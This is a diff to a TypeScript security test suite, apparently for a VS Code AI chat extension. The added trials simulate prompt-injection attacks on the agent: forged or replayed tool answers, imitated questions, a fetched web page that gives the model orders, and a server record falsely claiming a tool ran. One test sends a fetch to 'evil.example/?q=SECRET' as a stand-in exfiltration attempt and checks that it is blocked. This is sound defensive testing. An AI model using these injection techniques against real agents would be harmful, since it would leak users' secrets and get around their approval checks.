@@ -3,11 +3,16 @@ import { readdir, readFile as readDisk } from "node:fs/promises";
 import os from "node:os";
 import path from "node:path";
 import type * as vscode from "vscode";
+import type { ReasoningDetail } from "../../src/shared/chatEvent.ts";
+import { activePath, createConversation, setTools } from "../../src/shared/conversation.ts";
+import { pinServerTool, type ServerTool } from "../../src/shared/serverTools.ts";
+import { serverToolCalls } from "../../src/shared/serverToolUse.ts";
 import { type TestTool, ToolTalk, type ToolTalkOptions } from "../tools/toolTalk.ts";
 import { fake, lm } from "../unit/vscode.ts";
 import { type AttackClass, type AttackControl, type AttackResult, blocked, eventually, failed, notApplicable } from "./attackCase.ts";
 import { agrees, asks, closes, opensFile, type Scene, settles, type User, withScene } from "./scene.ts";
 import { boundedSchemas } from "./slowSchemas.ts";
+import { answeredElsewhere, argumentsInPanel, forgedAnswer, imitatedQuestion, replayedAnswer } from "./toolAnswers.ts";
 import { exactly, fieldsOf, linkIn, textLike, trial, tryEach } from "./trials.ts";
 
 const repository = path.join(import.meta.dirname, "../..");
@@ -30,12 +35,22 @@ export const run: AttackClass["run"] = tryEach(
     (spelled) => readsNothing(spelled.flatMap((one) => readingTools.map((tool) => [tool, one] as const))),
   ),
   trial(exactly("aside.sendWith", "pressed_after_ms"), ({ pressed_after_ms }) => acceptedBySlip(Number(pressed_after_ms))),
+  trial(exactly("answer_tool"), ({ answer_tool }) => forgedAnswer(fieldsOf(answer_tool) ?? {})),
+  trial(exactly("next_call"), ({ next_call }) => replayedAnswer(fieldsOf(next_call) ?? {})),
+  trial(exactly("windows"), () => answeredElsewhere()),
+  trial(exactly("imitation"), ({ imitation }) => imitatedQuestion(String(imitation))),
+  trial(
+    (payload) => fillerIn(exactly("shown")(payload)?.["shown"]),
+    (input) => argumentsInPanel(input),
+  ),
   trial(fillerIn, (input) => argumentsShown(input)),
   trial(exactly("modelOptions"), ({ modelOptions }) => sampling(modelOptions as Readonly<Record<string, unknown>>)),
   trial(exactly("vscode.lm.selectChatModels"), () => otherExtension()),
   trial(exactly("schemas"), ({ schemas }) => boundedSchemas(Number(schemas))),
   trial(exactly("tools"), ({ tools }) => importedTools(tools)),
   trial(exactly("tool_result"), ({ tool_result }) => saysItIsTheUser(String(tool_result))),
+  trial(exactly("fetched_page"), ({ fetched_page }) => pageGivesOrders(String(fetched_page))),
+  trial(exactly("server_tool_call"), ({ server_tool_call }) => recordedCall(fieldsOf(server_tool_call) ?? {})),
   trial(exactly("tool_calls"), ({ tool_calls }) => storm(Number(tool_calls))),
   trial(exactly("id", "times"), ({ id, times }) => sameIds(String(id), Number(times))),
   trial(exactly("description"), ({ description }) => poisonedDescription(String(description))),
@@ -364,6 +379,53 @@ async function saysItIsTheUser(result: string): Promise<AttackResult> {
     : failed(`asked ${approvals.length} times, executed ${executed.length} times`);
 }
 
+const fetching: ServerTool = { name: "openrouter:web_fetch", domains: ["docs.example"], filesAgreed: false };
+
+/** A page that OpenRouter fetched tells the model and us what is allowed now. The next question tries to make use of it. */
+async function pageGivesOrders(page: string): Promise<AttackResult> {
+  const conversation = setTools(createConversation("c", 0), [
+    pinServerTool(fetching),
+    { name: "write_file", pin: '["write_file","",null]' },
+  ]);
+  const talk = await ToolTalk.start({ tools: [effect], approve: () => "refuse", conversation });
+  try {
+    const fetched = (url: string) => `@server openrouter:web_fetch ${JSON.stringify({ url })}`;
+    await talk.ask(`@page ${page.replaceAll("\n", " ")}\n${fetched("https://docs.example/a")}`);
+    await talk.ask(`${fetched("https://evil.example/?q=SECRET")}\n@call write_file {}`);
+    const results = activePath(talk.session.conversation).flatMap((message) =>
+      message.role === "assistant" ? serverToolCalls(message.reasoningDetails) : [],
+    );
+    const [first, second] = results;
+    // Otherwise nothing was tried: the page has to have arrived, and the other domain to have been asked for.
+    if (first?.failed !== false || !first.result.includes(JSON.stringify(page.replaceAll("\n", " ")).slice(1, -1)) || second === undefined)
+      return failed(`the page did not arrive: ${JSON.stringify(results).slice(0, 200)}`);
+    if (!second.failed) return failed("another domain was fetched");
+    if (talk.session.conversation.tools !== conversation.tools) return failed("the tools of the conversation have changed");
+    const offered = talk.bodies.map(({ tools, stop_server_tools_when: limits }) => JSON.stringify([tools, limits]));
+    if (new Set(offered).size !== 1) return failed("a later request offers other tools, domains or limits");
+    return talk.approvals.length === 1 && talk.executed.length === 0
+      ? blocked("tools, domains and limits stay, and the next call is asked about as ever")
+      : failed(`asked ${talk.approvals.length} times, executed ${talk.executed.length} times`);
+  } finally {
+    await talk.close();
+  }
+}
+
+/** A server claims that it ran a tool of ours, and what came of it. */
+async function recordedCall(record: Readonly<Record<string, unknown>>): Promise<AttackResult> {
+  const detail = { type: "reasoning.server_tool_call", ...record } as unknown as ReasoningDetail;
+  const shown = serverToolCalls([detail, { ...detail, tool_name: "openrouter:datetime" }]);
+  if (shown.length === 0) return failed("not even the record of a server tool is read");
+  if (shown.length > 1) return failed("a call is shown as run by the server that has another tool's name");
+  const { executed, approvals } = await talked(
+    { tools: [effect] },
+    `@server ${String(record["tool_name"])} ${String(record["arguments"])}`,
+  );
+  return executed.length === 0 && approvals.length === 0
+    ? blocked("it is no call, runs nothing, and is not shown as one of OpenRouter's")
+    : failed(`executed ${executed.length}, asked ${approvals.length}`);
+}
+
 async function writesCallsAsText(text: string): Promise<AttackResult> {
   // The model repeats the result in its answer, so that the text is in both.
   const say: TestTool = { name: "say", group: "ours", run: async () => ({ text }) };
@@ -468,10 +530,15 @@ async function untrusted(): Promise<AttackResult> {
     const pin = (await vscodeTools.known()).get("write_file")?.pin ?? "";
     const offer = async (trusted: boolean): Promise<number> =>
       (
-        await new Tools({ ask: vscodeAsk, window: { trusted }, host: () => Promise.resolve(vscodeTools), log }).offer(
-          [{ name: "write_file", pin }],
-          nothing,
-        )
+        await new Tools({
+          ask: vscodeAsk,
+          window: { trusted },
+          endpoint: () => undefined,
+          host: () => Promise.resolve(vscodeTools),
+          log,
+          approve: () => Promise.resolve("refuse"),
+          onAllowedChanged: nothing,
+        }).offer([{ name: "write_file", pin }], nothing)
       ).length;
     return { restricted: await offer(false), trusted: await offer(true) };
   });
